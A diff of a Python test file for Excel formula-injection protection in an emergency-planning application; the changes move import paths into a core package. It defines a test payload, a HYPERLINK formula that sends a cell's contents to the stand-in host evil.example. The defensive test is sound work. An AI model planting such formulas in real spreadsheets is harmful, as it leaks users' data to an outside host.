@@ -1,6 +1,6 @@
 """Excel formula injection (issue 15 item 4): every export writes text that Excel would read as
 a formula (``=``, ``+``, ``-``, ``@``, tab, carriage return first) with a leading apostrophe,
-in one place (emergency.sheets), and the imports take the apostrophe off again, so an export
+in one place (emergency.core.sheets), and the imports take the apostrophe off again, so an export
 re-imports unchanged."""
 from __future__ import annotations
 
@@ -12,10 +12,10 @@ import pytest
 import sqlalchemy as sa
 from openpyxl import load_workbook
 
-from emergency.extensions import db
+from emergency.core.extensions import db
 from emergency.messaging.models import Contact, OrgKind
 from emergency.organisations.models import Enterprise
-from emergency.timeutil import local_today
+from emergency.core.timeutil import local_today
 from plans.drills.models import Occurrence
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
